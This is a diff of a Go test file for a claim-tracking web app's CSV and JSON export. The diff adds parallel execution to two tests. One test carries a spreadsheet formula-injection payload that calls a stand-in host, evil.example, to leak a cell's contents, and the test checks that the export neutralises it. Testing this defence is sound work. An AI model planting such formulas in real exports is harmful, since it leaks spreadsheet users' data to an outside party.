@@ -17,6 +17,7 @@ import (
 // The claims list offers its view for download, every page of it, with its
 // filters kept; the CSV and the JSON list the same claims as the list.
 func TestClaimListExport(t *testing.T) {
+	t.Parallel()
 	a := newTestApp(t)
 	a.setStatus("1", claimtrack.StatusRefuted, "He stayed in Washington.")
 	a.setStatus("3", claimtrack.StatusRefuted, "They were.")
@@ -102,6 +103,7 @@ func readCSV(body string) ([][]string, error) {
 // neutralised (a single quote in front), in a file that starts with a
 // byte-order mark; the JSON keeps the text as it is.
 func TestClaimListExport_FormulasNeutralised(t *testing.T) {
+	t.Parallel()
 	a := newTestApp(t)
 	text := `=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")`
 	require.Equal(t, http.StatusSeeOther, a.post("/claims", map[string][]string{
